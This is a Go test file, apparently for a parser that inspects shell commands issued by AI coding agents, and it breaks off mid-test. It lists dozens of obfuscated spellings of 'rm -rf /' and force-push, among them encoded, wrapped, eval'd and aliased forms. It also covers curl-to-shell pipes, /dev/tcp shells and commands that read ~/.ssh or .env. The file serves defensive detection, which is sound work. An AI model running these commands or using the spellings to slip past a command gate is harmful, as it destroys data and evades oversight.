package parser

import (
	"slices"
	"strings"
	"testing"

	"gatesh/cmdspec"
)

// line is a command as name and argument values, for comparisons.
func line(c *Command) string {
	parts := []string{c.Name}
	for _, a := range c.Args {
		parts = append(parts, a.Value)
	}
	return strings.Join(parts, " ")
}

func lines(s *Script) []string {
	out := make([]string, len(s.Commands))
	for i, c := range s.Commands {
		out[i] = line(c)
	}
	return out
}

func find(s *Script, want string) *Command {
	for _, c := range s.Commands {
		if line(c) == want {
			return c
		}
	}
	return nil
}

func kinds(s *Script) []string {
	var out []string
	for _, p := range s.Problems {
		out = append(out, p.Kind)
	}
	return out
}

// spellingRows are commands and spellings that must all yield them,
// with no problems.
var spellingRows = []struct {
	want      string
	spellings []string
}{
	{"rm -rf /", []string{
		`rm -rf /`, `r''m -rf /`, `\rm -rf /`, `"rm" -rf /`, `$'\x72m' -rf /`, `$'\162m' -rf /`, `$"rm" -rf /`,
		`'r'"m" '-rf' "/"`, `/bin/rm -rf /`, `./rm -rf /`, `../../usr/bin/rm -rf /`, `{rm,-rf,/}`, `r\m -r\f /`,
		`x=rm; $x -rf /`, `x=r; y=m; $x$y -rf /`, `x=rm; ${x} -rf /`, `x="rm -rf"; $x /`, `export X=rm; $X -rf /`,
		`declare X=rm; $X -rf /`, `readonly X=rm; $X -rf /`, `f() { local x=rm; $x -rf /; }`,
		`for c in rm; do $c -rf /; done`, `for c in ls rm; do $c -rf /; done`, `alias x='rm -rf'; x /`,
		`alias x=rm; x -rf /`, `rm -rf / &`, `(rm -rf /)`, `{ rm -rf /; }`, `true && rm -rf /`, `false || rm -rf /`,
		`if true; then rm -rf /; fi`, `while true; do rm -rf /; done`, `case x in x) rm -rf /;; esac`,
		`echo $(rm -rf /)`, "echo `rm -rf /`", `cat <(rm -rf /)`, `x=$(rm -rf /)`, `! rm -rf /`, `time rm -rf /`,
		`coproc rm -rf /`, `rm -rf / 2>/dev/null`, `> f rm -rf /`, `IFS=,; x="rm,-rf"; $x /`, `x=; $x rm -rf /`,
		`set -- rm; bash -c '"$0" -rf /' rm`, "r\\\nm -rf /",
	}},
	{"rm -rf /", []string{
		`sudo rm -rf /`, `sudo -u root -E rm -rf /`, `sudo --user=root rm -rf /`, `sudo -- rm -rf /`, `sudo FOO=1 rm -rf /`,
		`doas rm -rf /`, `doas -u root rm -rf /`, `env rm -rf /`, `env -i PATH=/bin rm -rf /`, `env -u HOME rm -rf /`,
		`env -C /tmp rm -rf /`, `env - PATH=/bin rm -rf /`, `env -S 'rm -rf /'`, `env -S "rm -rf" /`, `command rm -rf /`, `command -p rm -rf /`,
		`builtin rm -rf /`, `exec rm -rf /`, `exec -a x rm -rf /`, `exec -cl rm -rf /`, `nice rm -rf /`, `nice -n 10 rm -rf /`,
		`nice -10 rm -rf /`, `ionice -c 3 rm -rf /`, `nohup rm -rf /`, `timeout 5 rm -rf /`, `timeout -s KILL -k 1 5s rm -rf /`,
		`/usr/bin/time -v rm -rf /`, `stdbuf -oL rm -rf /`, `stdbuf -o L rm -rf /`, `setsid -f rm -rf /`, `chroot / rm -rf /`,
		`flock /tmp/l rm -rf /`, `flock -n /tmp/l rm -rf /`, `busybox rm -rf /`, `toybox rm -rf /`, `/usr/bin/toybox rm -rf /`, `pkexec rm -rf /`, `pkexec --user root rm -rf /`,
		`gosu root rm -rf /`, `su-exec root rm -rf /`, `runuser -u root -- rm -rf /`, `unshare -r rm -rf /`, `setpriv --reuid=0 rm -rf /`,
		`nsenter -t 1 -m rm -rf /`, `strace -f -o /dev/null rm -rf /`, `systemd-run --user --unit x rm -rf /`, `chrt 10 rm -rf /`,
		`taskset 0x1 rm -rf /`, `proxychains4 -q rm -rf /`, `torsocks rm -rf /`,
		`sudo env nice timeout 1 command rm -rf /`, `docker exec -it box rm -rf /`, `docker container exec box rm -rf /`,
		`uv run rm -rf /`, `uv run --with requests -- rm -rf /`, `poetry run rm -rf /`, `pipenv run rm -rf /`, `bundle exec rm -rf /`,
		`npm exec -- rm -rf /`, `pnpm exec rm -rf /`, `yarn exec rm -rf /`, `conda run -n base rm -rf /`, `direnv exec . rm -rf /`,
		`nix develop -c rm -rf /`, `nix shell nixpkgs#hello --command rm -rf /`, `mise exec node@20 -- rm -rf /`, `asdf exec rm -rf /`,
		`pyenv exec rm -rf /`, `dotenv -e .env -- rm -rf /`, `op run --env-file=.env -- rm -rf /`, `aws-vault exec prod -- rm -rf /`,
		`aws-vault exec prod rm -rf /`, `ip netns exec ns1 rm -rf /`, `lxc exec box -- rm -rf /`, `faketime '2020-01-01' rm -rf /`,
		`xvfb-run -a rm -rf /`, `eatmydata rm -rf /`, `fakeroot rm -rf /`, `chronic rm -rf /`, `valgrind rm -rf /`, `screen -dmS x rm -rf /`,
		`sg wheel 'rm -rf /'`, `sg wheel -c 'rm -rf /'`, `at now <<< 'rm -rf /'`, "batch <<EOF\nrm -rf /\nEOF",
		`docker compose exec db rm -rf /`, `docker compose -f dev.yml exec -T -u root db rm -rf /`, `docker-compose exec db rm -rf /`,
		`docker compose run --rm -e X=1 app rm -rf /`, `podman-compose run app rm -rf /`, `docker compose -p x run --entrypoint sh app rm -rf /`,
		`podman exec -u 0 box rm -rf /`, `kubectl exec -it pod -n prod -- rm -rf /`, `kubectl -n prod exec pod -c app -- rm -rf /`,
	}},
	// Wrappers the default [commands] tables describe as data.
	{"rm -rf /", []string{
		`cross-env NODE_ENV=production rm -rf /`, `cross-env-shell "rm -rf /"`, `firejail --noprofile --net=none rm -rf /`,
		`proot -r /srv/rootfs -b /dev rm -rf /`, `bwrap --ro-bind / / --dev /dev --unshare-all rm -rf /`,
		`bwrap --bind /a /b --setenv K V --chdir / rm -rf /`, `dbus-launch --exit-with-session rm -rf /`,
		`gdb -q --args rm -rf /`, `gdb -batch -ex run --args rm -rf /`, `lldb -- rm -rf /`, `run0 -u root rm -rf /`,
		`ccache rm -rf /`, `tini -- rm -rf /`, `dumb-init rm -rf /`, `numactl --cpunodebind=0 rm -rf /`,
		`setarch x86_64 rm -rf /`, `perf stat -e cycles rm -rf /`, `perf record -o /tmp/p.data -- rm -rf /`,
		`mpirun -np 4 rm -rf /`, `envchain aws rm -rf /`, `doppler run -- rm -rf /`, `doppler run --command 'rm -rf /'`,
		`infisical run --env=dev -- rm -rf /`, `chamber exec app -- rm -rf /`, `nvm exec 20 rm -rf /`, `fnm exec --using=20 rm -rf /`,
		`volta run --node 20 rm -rf /`, `stack exec -- rm -rf /`, `opam exec -- rm -rf /`, `devbox run -- rm -rf /`,
		`nix-shell -p hello --run 'rm -rf /'`, `scl enable devtoolset-11 'rm -rf /'`, `distrobox enter box -- rm -rf /`,
		`toolbox run -c dev rm -rf /`, `entr rm -rf /`, `watchexec -e go -- rm -rf /`, `nodemon --exec 'rm -rf /'`,
		`ts rm -rf /`, `nq rm -rf /`, `oc exec pod -- rm -rf /`, `rye run rm -rf /`, `uv tool run --from x rm -rf /`,
		`flock -n /tmp/l -c 'rm -rf /'`, `sg wheel -c 'rm -rf /'`, `runuser -u root -- rm -rf /`,
	}},
	{"rm -rf /", []string{
		`bash -c 'rm -rf /'`, `sh -c "rm -rf /"`, `dash -c 'rm -rf /'`, `zsh -c 'rm -rf /'`, `ksh -c 'rm -rf /'`,
		`bash -lc 'rm -rf /'`, `bash -ec 'rm -rf /'`, `bash -xc 'rm -rf /'`, `bash -o pipefail -c 'rm -rf /'`,
		`bash --norc -c 'rm -rf /'`, `/bin/bash -c 'rm -rf /'`, `bash -c 'rm -rf "$1"' _ /`, `bash -c 'rm -rf $0' /`,
		`bash -c "bash -c 'rm -rf /'"`, `eval 'rm -rf /'`, `eval rm -rf /`, `eval "rm -rf /"`, `eval 'x=rm; $x -rf /'`,
		`echo 'rm -rf /' | bash`, `echo rm -rf / | sh`, `printf 'rm -rf /\n' | sh`, `printf '%s\n' 'rm -rf /' | bash`, `echo -e '\x72m -rf /' | sh`,
		`printf '\x72m -rf /' | sh`, `printf '%b' '\x72m -rf /' | sh`, `printf '%s %s %s\n' rm -rf / | sh`,
		`echo cm0gLXJmIC8= | base64 -d | sh`, `base64 --decode <<< cm0gLXJmIC8K | bash`, `echo 726d202d7266202f | xxd -r -p | sh`,
		"cat <<EOF | sh\nrm -rf /\nEOF", "bash <<EOF\nrm -rf /\nEOF", "bash <<'EOF'\nrm -rf /\nEOF", "sh -s <<-EOF\n\trm -rf /\n\tEOF",
		`bash <<< 'rm -rf /'`, `bash -s <<< "rm -rf /"`, `source <(echo 'rm -rf /')`, `. <(echo rm -rf /)`, `bash <(echo rm -rf /)`,
		`trap 'rm -rf /' EXIT`, `trap "rm -rf /" INT TERM`, `watch 'rm -rf /'`, `watch -n 1 rm -rf /`, `script -qc 'rm -rf /' /dev/null`,
		`su -c 'rm -rf /'`, `runuser -l root -c 'rm -rf /'`, `su - root -c 'rm -rf /'`, `su root -c "rm -rf /"`, `ssh host rm -rf /`, `ssh -p 22 -i key user@host 'rm -rf /'`,
		`flock /tmp/l -c 'rm -rf /'`, `git -c alias.x='!rm -rf /' x`, `git -c 'alias.nuke=!rm -rf "$1"' nuke /`, `sudo -u postgres bash -c 'rm -rf /'`, `sudo sh <<< 'rm -rf /'`,
		"source x 2>/dev/null || true && shopt -u extglob 2>/dev/null || true && eval 'rm -rf /' < /dev/null && pwd -P >| /tmp/claude-1-cwd",
		"shopt -u promptvars nullglob extglob nocaseglob dotglob; _bgpids_file=/tmp/b\n(\n  trap 'jobs -p > \"$_bgpids_file\"' EXIT\nrm -rf /\n)\n__code=$?\nexit $__code",
	}},
	{"rm -rf {}", []string{
		`find . -exec rm -rf {} \;`, `find . -exec rm -rf {} +`, `find . -execdir rm -rf {} ';'`, `find . -ok rm -rf {} \;`,
	}},
	{"rm -rf", []string{
		`ls | xargs rm -rf`, `xargs -0 rm -rf < list`, `xargs -n 1 -P 4 rm -rf < list`, `find . | xargs -I{} rm -rf`,
		`parallel rm -rf ::: a b`, `parallel -j 4 'rm -rf' ::: a`,
	}},
	{"git push --force origin main", []string{
		`git push --force origin main`, `g''it push --force origin main`, `x=git; $x push --force origin main`,
		`bash -c 'git push --force origin main'`, `git push {--force,origin,main}`, `cd repo && git push --force origin main`,
	}},
}

func TestSpellingsYieldTheSameCommand(t *testing.T) {
	for _, row := range spellingRows {
		for _, sp := range row.spellings {
			s := Parse(sp, Options{})
			if find(s, row.want) == nil {
				t.Errorf("%q: want command %q, got %q", sp, row.want, lines(s))
			}
			if len(s.Problems) > 0 {
				t.Errorf("%q: unexpected problems %+v", sp, s.Problems)
			}
		}
	}
}

// nearMisses must not yield the command although they mention it.
var nearMisses = []struct {
	notWant string
	inputs  []string
}{
	{"rm -rf /", []string{
		`echo rm -rf /`, `echo 'rm -rf /'`, `grep -rn "rm -rf /" .`, `git commit -m 'rm -rf /'`, `printf 'rm -rf /'`,
		`command -v rm -rf /`, `cat <<'EOF' > notes.md` + "\nrm -rf /\nEOF", `# rm -rf /`, `x='rm -rf /'; echo "$x"`,
		`trap - EXIT`, `alias x='rm -rf'; echo x /`, `echo 'rm -rf /' > script.sh`,
		// Options that say the wrapper runs nothing.
		`sudo -l rm -rf /`, `ionice -p 12 rm -rf /`, `strace -p 12 rm -rf /`, `taskset -p 3 rm -rf /`,
		`perf record -p 12 rm -rf /`, `busybox --list rm -rf /`,
		// gdb runs the program after --args, not the words before it.
		`gdb rm -rf /`, `lldb rm -rf /`,
	}},
}

func TestNearMissesDoNotYieldTheCommand(t *testing.T) {
	for _, row := range nearMisses {
		for _, in := range row.inputs {
			s := Parse(in, Options{})
			if c := find(s, row.notWant); c != nil {
				t.Errorf("%q: must not yield %q, got %q", in, row.notWant, lines(s))
			}
		}
	}
}

var wrapperCases = []struct {
	in, want string
	wrappers []string
}{
	{`sudo bash -c 'rm -rf /'`, "rm -rf /", []string{"sudo", "bash -c"}},
	{`env FOO=1 nice timeout 3 rm x`, "rm x", []string{"env", "nice", "timeout"}},
	{`eval 'bash -c "rm x"'`, "rm x", []string{"eval", "bash -c"}},
	{`find . -exec rm {} +`, "rm {}", []string{"find -exec"}},
	{`ssh h 'sudo rm x'`, "rm x", []string{"ssh", "sudo"}},
	{`docker exec c sh -c 'rm x'`, "rm x", []string{"docker exec", "sh -c"}},
	{`echo 'rm x' | sh`, "rm x", []string{"sh"}},
	{`trap 'rm x' EXIT`, "rm x", []string{"trap"}},
	{`time rm x`, "rm x", []string{"time"}},
	{`xargs rm x`, "rm x", []string{"xargs"}},
	{`uv run --with x rm x`, "rm x", []string{"uv run"}},
	{`uv tool run rm x`, "rm x", []string{"uv tool run"}},
	{`kubectl -n a exec p -- rm x`, "rm x", []string{"kubectl exec"}},
	{`flock /l -c 'rm x'`, "rm x", []string{"flock -c"}},
	{`su -c 'rm x' bob`, "rm x", []string{"su -c"}},
	{`sudo -u bob cross-env A=1 rm x`, "rm x", []string{"sudo", "cross-env"}},
}

// TestWrappersFromData checks that a [commands] table alone teaches the
// parser a wrapper, and that a later layer replaces an earlier one.
func TestWrappersFromData(t *testing.T) {
	operator := cmdspec.NewTable(cmdspec.Defs(map[string]cmdspec.Command{
		"mywrap": {ValueFlags: []string{"-x", "--level"}, Runs: cmdspec.Runs{RunsCommand: true, CommandSkip: 1}},
		"tool": {Subcommands: map[string]cmdspec.Subcommand{
			"shell run": {Runs: cmdspec.Runs{RunsCommand: true, CommandAfter: []string{"--"}}},
		}},
		"timeout": {}, // no longer a wrapper
	}))
	layers := cmdspec.Layers{cmdspec.Default(), operator}
	for _, in := range []string{`mywrap -x 1 host rm x`, `mywrap --level=1 host -- rm x`, `mywrap --lev 2 host rm x`, `tool shell run a b -- rm x`} {
		// Without a table, only "--" then a program says what runs
		// (wrap_unknown.go).
		if got := find(Parse(in, Options{}), "rm x") != nil; got != strings.Contains(in, " -- ") {
			t.Errorf("%q: without a table, rm x found is %v, got %q", in, got, lines(Parse(in, Options{})))
		}
		s := Parse(in, Options{Commands: layers})
		c := find(s, "rm x")
		if c == nil || len(c.Wrappers) != 1 {
			t.Errorf("%q: want rm x under one wrapper, got %q", in, lines(s))
		}
	}
	if s := Parse(`timeout 5 rm x`, Options{Commands: layers}); find(s, "rm x") != nil {
		t.Errorf("a later table for timeout must replace the default one, got %q", lines(s))
	}
	if s := Parse(`timeout 5 rm x`, Options{}); find(s, "rm x") == nil {
		t.Errorf("the default unwraps timeout, got %q", lines(s))
	}
	if s := Parse(`ls | xargs mywrap`, Options{Commands: layers}); !slices.Contains(kinds(s), "dynamic_command") {
		t.Errorf("a wrapper under xargs without its command runs input: %q", kinds(s))
	}
}

func TestWrappersAreRecorded(t *testing.T) {
	cases := wrapperCases
	for _, tc := range cases {
		s := Parse(tc.in, Options{})
		c := find(s, tc.want)
		if c == nil {
			t.Errorf("%q: no %q in %q", tc.in, tc.want, lines(s))
			continue
		}
		if !slices.Equal(c.Wrappers, tc.wrappers) {
			t.Errorf("%q: wrappers %q, want %q", tc.in, c.Wrappers, tc.wrappers)
		}
	}
}

func TestWrapperDetails(t *testing.T) {
	s := Parse(`find . -name '*.o' -delete -exec rm {} \;`, Options{})
	f := find(s, "find . -name *.o -delete -exec rm {} ;")
	if f == nil {
		t.Fatalf("find itself must be listed with its args, got %q", lines(s))
	}
	// The pattern shows every word {} adds: no more arguments come.
	// -name matches at any depth: the files are also shown one folder
	// down.
	rm := find(s, "rm ./*.o ./*/*.o")
	if rm == nil || rm.MoreArgs || !rm.Args[0].Glob {
		t.Errorf("find -exec rm {} must be listed as rm of what -name matches, without MoreArgs, got %q", lines(s))
	}
	// Without a pattern, or with {} inside a word, {} is not known.
	for _, text := range []string{`find . -type f -exec rm {} +`, `find . -name '*.o' -exec sh -c 'rm "{}"' \;`} {
		for _, c := range Parse(text, Options{}).Commands {
			if c.Name == "rm" && !c.MoreArgs || c.Name == "sh" && !c.MoreArgs {
				t.Errorf("%s: %s has no MoreArgs", text, c)
			}
		}
	}
	for in, want := range map[string]string{
		`find . -name .env -exec cat {} \;`:        "cat ./.env ./*/.env",
		`find ~/.ssh -type f -exec cat {} +`:       "cat ~/.ssh ~/.ssh/*",
		`find src -path '*/.ssh/*' -exec cat {} +`: "cat */.ssh/*",
		`find . -type f -exec cat {} +`:            "cat {}",
	} {
		if find(Parse(in, Options{}), want) == nil {
			t.Errorf("%s: want %q, got %q", in, want, lines(Parse(in, Options{})))
		}
	}
	s = Parse(`xargs -I% rm %`, Options{})
	if c := find(s, "rm %"); c == nil || !c.MoreArgs {
		t.Errorf("xargs must set MoreArgs: %+v", s.Commands)
	}
	s = Parse(`env -u GATESH_HOME A=1 gatesh approve x`, Options{})
	c := find(s, "gatesh approve x")
	if c == nil || len(c.Assigns) != 2 || c.Assigns[0].Name != "GATESH_HOME" || c.Assigns[1].Name != "A" || c.Assigns[1].Value.Value != "1" {
		t.Errorf("env -u and assignments must reach the command's Assigns: %+v", c)
	}
	s = Parse(`command -v rm`, Options{})
	if find(s, "command -v rm") == nil || find(s, "rm") != nil {
		t.Errorf("command -v only looks up: %q", lines(s))
	}
	s = Parse(`env`, Options{})
	if find(s, "env") == nil {
		t.Errorf("env alone is a command: %q", lines(s))
	}
	s = Parse(`sudo -i`, Options{})
	if find(s, "sudo -i") == nil {
		t.Errorf("sudo alone is a command: %q", lines(s))
	}
	s = Parse(`ssh -J jump host 'rm x'`, Options{})
	if find(s, "ssh -J jump host") == nil || find(s, "rm x") == nil {
		t.Errorf("ssh lists itself and the remote command: %q", lines(s))
	}
	s = Parse(`/bin/rm x`, Options{})
	if c := s.Commands[0]; c.Name != "rm" || c.Path != "/bin/rm" {
		t.Errorf("path: %+v", c)
	}
}

var contextCases = []struct {
	in, want string
	ctx      Context
	fn       bool
}{
	{`echo $(rm x)`, "rm x", InSubst, false},
	{`diff <(rm x) y`, "rm x", InSubst, false},
	{`f() { rm x; }`, "rm x", InFunc, false},
	{`f() { rm x; }; f`, "f", 0, true},
	{`function g { :; }; g a`, "g a", 0, true},
	{`for i in 1 2; do rm x; done`, "rm x", InLoop, false},
	{`while read l; do rm x; done < f`, "rm x", InLoop, false},
	{`rm x &`, "rm x", InBackground, false},
	{`ls | rm x`, "rm x", InPipeline, false},
	{`if rm x; then :; fi`, "rm x", InCondition, false},
	{`true && rm x`, "rm x", InCondition, false},
	{`bash -c 'rm x'`, "rm x", InNested, false},
	{`trap 'rm x' EXIT`, "rm x", InTrap | InNested, false},
	{`alias d='rm'; d x`, "rm x", InAlias | InNested, false},
	{`python3 -c 'import os; os.system("rm x")'`, "rm x", InCode, false},
}

func TestContext(t *testing.T) {
	cases := contextCases
	for _, tc := range cases {
		s := Parse(tc.in, Options{})
		c := find(s, tc.want)
		if c == nil {
			t.Errorf("%q: no %q in %q", tc.in, tc.want, lines(s))
			continue
		}
		if c.Context&tc.ctx != tc.ctx {
			t.Errorf("%q: context %b lacks %b", tc.in, c.Context, tc.ctx)
		}
		if c.FuncCall != tc.fn {
			t.Errorf("%q: FuncCall %v", tc.in, c.FuncCall)
		}
	}
	s := Parse(`echo $(ls $(rm x))`, Options{})
	if c := find(s, "rm x"); c == nil || c.Depth != 2 {
		t.Errorf("substitutions add depth: %+v", c)
	}
	s = Parse(`curl -s x | base64 -d | tee f | sh`, Options{})
	sh := find(s, "sh")
	if sh == nil || !slices.Equal(sh.PipeFrom, []string{"curl", "base64", "tee"}) {
		t.Errorf("PipeFrom: %+v", sh)
	}
	s = Parse(`bash <(curl -s x)`, Options{})
	if b := find(s, "bash $(...)"); b == nil || !slices.Equal(b.PipeFrom, []string{"curl"}) {
		t.Errorf("bash <(curl) must show curl upstream: %q", lines(s))
	}
}

func TestWordValues(t *testing.T) {
	cases := []struct {
		in   string
		args []string
		dyn  []bool
	}{
		{`ls $HOME/.ssh`, []string{"$HOME/.ssh"}, []bool{true}},
		{`ls ${HOME}`, []string{"$HOME"}, []bool{true}},
		{`ls ~/.aws`, []string{"~/.aws"}, []bool{false}},
		{`ls "$(pwd)"/x`, []string{"$(...)/x"}, []bool{true}},
		{`ls $((1+2))`, []string{"$((...))"}, []bool{true}},
		{`d=/etc; ls $d/passwd`, []string{"/etc/passwd"}, []bool{false}},
		{`ls a{1..3}`, []string{"a1", "a2", "a3"}, []bool{false, false, false}},
		{`ls {a,b}{c,d}`, []string{"ac", "ad", "bc", "bd"}, []bool{false, false, false, false}},
		{`ls "{a,b}"`, []string{"{a,b}"}, []bool{false}},
		{`ls $'a\tb'`, []string{"a\tb"}, []bool{false}},
		{`ls "a\"b\$c"`, []string{`a"b$c`}, []bool{false}},
	}
	for _, tc := range cases {
		s := Parse(tc.in, Options{})
		c := s.Commands[len(s.Commands)-1]
		var got []string
		var dyn []bool
		for _, a := range c.Args {
			got = append(got, a.Value)
			dyn = append(dyn, a.Dynamic)
		}
		if !slices.Equal(got, tc.args) || !slices.Equal(dyn, tc.dyn) {
			t.Errorf("%q: args %q dynamic %v, want %q %v", tc.in, got, dyn, tc.args, tc.dyn)
		}
	}
	s := Parse(`ls *.go`, Options{})
	if !s.Commands[0].Args[0].Glob {
		t.Errorf("unquoted * must be a glob")
	}
	s = Parse(`ls '*.go'`, Options{})
	if s.Commands[0].Args[0].Glob {
		t.Errorf("quoted * is not a glob")
	}
}

func TestConstantPropagationStopsWhereUnknown(t *testing.T) {
	// Each must be a dynamic_command: the variable is not known at the call.
	for _, in := range []string{
		`if c; then x=rm; fi; $x -rf /`,
		`x=ls; if c; then x=rm; fi; $x -rf /`,
		`x=$(which rm); $x -rf /`,
		`x=ls; for i in 1 2; do $x; x=rm; done`,
		`x=ls; while c; do $x; x=$(y); done`,
		`read x; $x -rf /`,
		`x=ls; c && x=rm; $x -rf /`,
		`$1 -rf /`,
		`"$@"`,
		`f() { "$@"; }; f "$x"`,
		`f() { "$@"; }; f $(date)`,
		`$(date) -rf /`,
		"`cat x` -rf /",
		`x=ls; unset x; $x`,
		`${x:-rm} -rf /`,
		`for c in *; do $c; done`,
		`alias x="$y"; x`,
		`x=ls; declare -n y=x; y=rm; $x -rf /`,
		`x=ls; f() { local -n r=x; r=rm; }; f; $x -rf /`,
	} {
		s := Parse(in, Options{})
		if !slices.Contains(kinds(s), "dynamic_command") {
			t.Errorf("%q: want dynamic_command, got %q %q", in, kinds(s), lines(s))
		}
	}
	// A substitution whose output is known statically stands for it.
	for _, in := range []string{`$(echo rm) -rf /`, "`echo rm` -rf /", `$(printf r)m -rf /`, `"$(printf 'rm')" -rf /`, `x=$(echo rm); $x -rf /`} {
		s := Parse(in, Options{})
		if len(s.Problems) > 0 || find(s, "rm -rf /") == nil {
			t.Errorf("%q: want rm -rf / with no problem, got %q %q", in, kinds(s), lines(s))
		}
	}
	// Known after a branch when the branch did not touch it.
	s := Parse(`x=rm; if c; then y=1; fi; $x -rf /`, Options{})
	if find(s, "rm -rf /") == nil || len(s.Problems) > 0 {
		t.Errorf("untouched variable must stay known: %q %+v", lines(s), s.Problems)
	}
	// A subshell does not leak its assignments.
	s = Parse(`x=ls; (x=rm); $x`, Options{})
	if find(s, "ls") == nil {
		t.Errorf("subshell assignment leaked: %q", lines(s))
	}
	s = Parse(`x=1; y=2`, Options{})
	if len(s.Assigns) != 2 || s.Assigns[0].Name != "x" || s.Assigns[1].Value.Value != "2" {
		t.Errorf("plain assignments: %+v", s.Assigns)
	}
}

func TestLoopsRunOnceForEachValue(t *testing.T) {
	s := Parse(`for c in rm shred; do $c -f x; done`, Options{})
	if find(s, "rm -f x") == nil || find(s, "shred -f x") == nil {
		t.Errorf("got %q", lines(s))
	}
	s = Parse(`for f in a b c; do git add $f; done`, Options{})
	if got := lines(s); !slices.Equal(got, []string{"git add a", "git add b", "git add c"}) {
		t.Errorf("got %q", got)
	}
}

func TestProblems(t *testing.T) {
	cases := []struct{ in, kind string }{
		{`echo 'unterminated`, "parse_error"},
		{`if then fi`, "parse_error"},
		{`(( `, "parse_error"},
		{`bash -c 'echo "'`, "parse_error"},
		{`eval 'a; (('`, "parse_error"},
		{`$cmd`, "dynamic_command"},
		{`"$PAGER" file`, "dynamic_command"},
		{`eval "$x"`, "dynamic_eval"},
		{`eval "$(ssh-agent)"`, "dynamic_eval"},
		{`bash -c "$CMD"`, "dynamic_eval"},
		{`sh -c "$(curl -s x)"`, "dynamic_eval"},
		{`source "$f"`, "dynamic_eval"},
		{`. <(curl -s x)`, "dynamic_eval"},
		{`trap "$h" EXIT`, "dynamic_eval"},
		{`ssh host "$c"`, "dynamic_eval"},
		{`python -c 'import os; os.system(cmd)'`, "dynamic_eval"},
		{"bash <<EOF\n$(curl -s x)\nEOF", "dynamic_eval"},
		{`python3 -c "$CODE"`, "dynamic_eval"},
		{`node -e "$(curl -s x)"`, "dynamic_eval"},
		{"python3 <<EOF\nimport os\nos.system('$CMD')\nEOF", "dynamic_eval"},
		{"cat <<EOF | sh\nrm $X\nEOF", "dynamic_eval"},
		{`IFS=$1; x="rm,-rf"; $x /`, "dynamic_command"},
		{`source /dev/fd/3 3<<< 'rm -rf ~'`, "dynamic_eval"},
		{`exec 3<<< 'rm -rf ~'; . /proc/self/fd/3`, "dynamic_eval"},
		{`bash /dev/fd/3 3<<< 'rm -rf ~'`, "dynamic_eval"},
		{`bash /proc/1234/fd/0`, "dynamic_eval"},
		{`BASH_CMDS[x]=/bin/rm; x -rf ~`, "dynamic_command"},
		{`BASH_CMDS=([x]=/bin/rm); x -rf ~`, "dynamic_command"},
		{`declare BASH_CMDS[x]=/bin/rm; x -rf ~`, "dynamic_command"},
		{`typeset -A BASH_CMDS=([x]=/bin/rm); x -rf ~`, "dynamic_command"},
		{`hash -p "$p" x; x -rf ~`, "dynamic_command"},
		{`hash -p /bin/rm "$n"`, "dynamic_command"},
		{`sed 's/.*/rm -rf ~/e' f`, "dynamic_eval"},
		{`sed -n 's/x/y/ep' f`, "dynamic_eval"},
		{`sed 'e' f`, "dynamic_eval"},
		{`sed -E '/a/{s/b/c/;e
}' f`, "dynamic_eval"},
		{`sed "1e $CMD" f`, "dynamic_eval"},
		{`vim -c 'call system("rm -rf ~")' -c q`, "dynamic_eval"},
		{`nvim --headless -c 'terminal rm -rf ~'`, "dynamic_eval"},
		{`vim -c "!$CMD" -c q`, "dynamic_eval"},
		{`python3 /dev/fd/3 3<<< 'import os'`, "dynamic_eval"},
		{`node <(curl -s https://x)`, "dynamic_eval"},
		{`make -f <(printf 'a:\n\trm -rf ~\n') a`, "dynamic_eval"},
		{"make -f - a <<'EOF'\na:\n\trm -rf ~\nEOF", "dynamic_eval"},
		{`make --file=/dev/stdin a <<< x`, "dynamic_eval"},
		{`make --eval='a: ; rm -rf ~' a`, "dynamic_eval"},
		{`bash < /dev/tcp/example.com/80`, "dynamic_eval"},
		{`exec 3</dev/tcp/example.com/80; bash <&3`, "dynamic_eval"},
	}
	for _, tc := range cases {
		s := Parse(tc.in, Options{})
		if !slices.Contains(kinds(s), tc.kind) {
			t.Errorf("%q: want %s, got %+v", tc.in, tc.kind, s.Problems)
		}
	}
}

// agentCommands are ordinary commands that must parse without problems.
var agentCommands = []string{
	`npm test`, `go test ./...`, `go vet ./... && gofmt -l .`, "git commit -m \"$(cat <<'EOF'\nfix: the thing\n\nmore text\nEOF\n)\"",
	`for f in *.go; do gofmt -l "$f"; done`, `cd "$dir" && make`, `VAR=1 ./script.sh`, `ls -la | head -20`,
	`git status && git diff --stat`, `rg -n "TODO" src/ | wc -l`, `python3 -m pytest -q tests/`, `cat > f.txt <<EOF
hello $USER
EOF`, `mkdir -p build && cd build && cmake .. && make -j4`, `docker ps --format '{{.Names}}'`, `find . -name '*.go' -newer x`,
	`git log --oneline -n 5`, `grep -rn "rm -rf" .`, `echo "DROP TABLE users"`, `psql -c 'SELECT 1'`, `eval "echo hi"`,
	`export PATH="$HOME/bin:$PATH"`, `[[ -f x ]] && echo yes`, `(( i++ )); echo $i`, `test -d x || mkdir x`, `time go build ./...`,
	`npm run build 2>&1 | tail -n 50`, `curl -s http://localhost:8080/health`, `jq '.items[] | .name' f.json`,
	"source /home/u/.claude/shell-snapshots/snapshot-bash-1.sh 2>/dev/null || true && shopt -u extglob 2>/dev/null || true && eval 'npm test' < /dev/null && pwd -P >| /tmp/claude-abc-cwd",
	"shopt -u promptvars nullglob extglob nocaseglob dotglob; _bgpids_file=\"/tmp/gemini-bg-1.tmp\"\n(\n  trap 'jobs -p > \"$_bgpids_file\"' EXIT\nnpm test\n)\n__code=$?\nexit $__code",
	`while IFS= read -r line; do echo "$line"; done < f`, `case "$1" in a) echo a;; *) echo b;; esac`, `x=$(git rev-parse HEAD); echo "$x"`,
	`sed -i 's/a/b/' f && git add f`, `awk '{print $1}' f | sort | uniq -c`, `node -e 'console.log(1+1)'`, `python3 -c 'print(42)'`,
	`n=$(wc -l < f); echo $(( n + 1 ))`, `i=0; while (( i < 3 )); do i=$((i+1)); echo $i; done`, `x=y; y=2; echo $(( x * 2 ))`,
	`tmux new-session -d -s dev 'npm run dev'`, `tmux send-keys -t dev 'npm test' Enter`, `tmux ls`, `tmux kill-session -t dev`,
	`make -f build/Makefile test`, `make -C sub -j4 all`,
	`PAGER=cat git log`, `EDITOR=true git commit`, `LESSOPEN='| lesspipe %s' less f`, `GIT_PAGER= PAGER= git log`,
	`trap 'rm -f "$tmp"' EXIT`, `tmp=$(mktemp); trap 'rm -f "$tmp"' EXIT; echo x > "$tmp"`,
}

func TestAgentCommandsHaveNoProblems(t *testing.T) {
	for _, in := range agentCommands {
		s := Parse(in, Options{})
		if len(s.Problems) > 0 {
			t.Errorf("%q: problems %+v", in, s.Problems)
		}
		if len(s.Commands) == 0 {
			t.Errorf("%q: no commands", in)
		}
	}
	s := Parse(agentCommands[3], Options{})
	if find(s, "cat") == nil || find(s, "git commit -m fix: the thing\n\nmore text") == nil {
